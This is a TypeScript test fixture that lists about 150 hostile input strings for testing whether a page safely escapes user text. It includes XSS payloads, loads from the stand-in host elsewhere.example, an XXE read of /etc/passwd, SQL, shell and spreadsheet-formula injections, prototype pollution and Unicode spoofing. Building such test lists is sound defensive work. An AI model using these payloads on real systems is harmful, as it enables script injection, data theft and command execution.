/** What people may write in any field, meaning harm: 150 texts that no page may run, follow or send anywhere. */

/** What each of them would do where it ran. */
const harm = 'window.harmed=1';
const elsewhere = 'https://elsewhere.example';

const tags = [
  `<script>${harm}</script>`,
  `<ScRiPt>${harm}</sCrIpT>`,
  `<script src=${elsewhere}/x.js></script>`,
  `<script type=module>${harm}</script>`,
  `<scr<script>ipt>${harm}</scr</script>ipt>`,
  `</title><script>${harm}</script>`,
  `</textarea><script>${harm}</script>`,
  `</script><script>${harm}</script>`,
  `]]><script>${harm}</script>`,
  `--><script>${harm}</script><!--`,
  `<base href=${elsewhere}/>`,
  `<link rel=stylesheet href=${elsewhere}/x.css>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<object data=${elsewhere}></object>`,
  `<embed src=${elsewhere}>`,
  `<applet code=x></applet>`,
  `<form action=${elsewhere}><button>go</button></form>`,
  `<input autofocus onfocus=${harm}>`,
  `<template><script>${harm}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${harm}>">`,
  `<xmp><script>${harm}</script></xmp>`,
  `<plaintext>`,
  `<!--`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
];

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onpointerenter',
].flatMap((handler) => [
  `<img src=x ${handler}=${harm}>`,
  `<svg ${handler}=${harm}>`,
  `<details open ${handler}=${harm}>`,
  `" ${handler}="${harm}`,
  `' ${handler}='${harm}`,
]);

const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'javascript&colon;',
  'jav&#x09;ascript:',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFybWVkPTE8L3NjcmlwdD4#',
  'blob:',
  'file:///etc/passwd#',
].flatMap((scheme) => [
  `${scheme}${harm}`,
  `<a href="${scheme}${harm}">open</a>`,
  `[open](${scheme}${harm})`,
]);

const pictures = [
  `<img src=${elsewhere}/pixel.gif>`,
  `![pixel](${elsewhere}/pixel.gif)`,
  `<iframe src=${elsewhere}></iframe>`,
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  `<video poster=${elsewhere}/p.png><source src=${elsewhere}/v.mp4>`,
  `<svg><image href=${elsewhere}/p.png /></svg>`,
  `<svg><use href=${elsewhere}/s.svg#x /></svg>`,
  `<svg><script>${harm}</script></svg>`,
  `<svg><animate onbegin=${harm} attributeName=x dur=1s>`,
  `<svg><foreignObject><script>${harm}</script></foreignObject></svg>`,
  `<math><mtext><script>${harm}</script></mtext></math>`,
  `<math href="javascript:${harm}">open</math>`,
  `<style>@import '${elsewhere}/x.css'</style>`,
  `<style>*{background:url(${elsewhere}/b.png)}</style>`,
  `<p style="background:url(${elsewhere}/b.png)">`,
  `expression(${harm})`,
];

const templates = [
  `{{constructor.constructor('${harm}')()}}`,
  `\${${harm}}`,
  `#{${harm}}`,
  `<%= ${harm} %>`,
  `{%raw%}${harm}`,
  '{account}',
  '{count, plural, one {#} other {{harm}}}',
  "'{'{x}'}'",
  '__proto__',
  'constructor.prototype.harmed',
  '{"__proto__":{"harmed":1}}',
  '%s%s%n%x',
];

const commands = [
  `=cmd|'/c calc'!A1`,
  `=HYPERLINK("${elsewhere}","open")`,
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  `'; drop table indexed_cases; --`,
  '" or 1=1 --',
  'NEAR("a" "b", 10) OR subject:*',
  '"unclosed',
  '%_\\%',
  '$(reboot)',
  '`reboot`',
  '| reboot',
];

const shapes = [
  '\u202Egnp.exe',
  '\u2066left\u2069 right',
  'a\u0000b'.replace('\0', '\u2400'),
  '\uFEFFbegins with a mark',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u0363\u0369l\u0357g\u036F',
  '👩‍👩‍👧‍👦👨🏿‍💻🏳️‍🌈',
  '漢字かな한글ไทยעבריתالعربية',
  'x'.repeat(240),
  'ﷺ'.repeat(60),
  'line\r\nSet-Cookie: harmed=1',
  '&lt;script&gt;window.harmed=1&lt;/script&gt;',
  '&#60;script&#62;window.harmed=1&#60;/script&#62;',
  '\\u003cscript\\u003ewindow.harmed=1',
];

export const hostileTexts: readonly string[] = [
  ...tags,
  ...handlers,
  ...addresses,
  ...pictures,
  ...templates,
  ...commands,
  ...shapes,
];
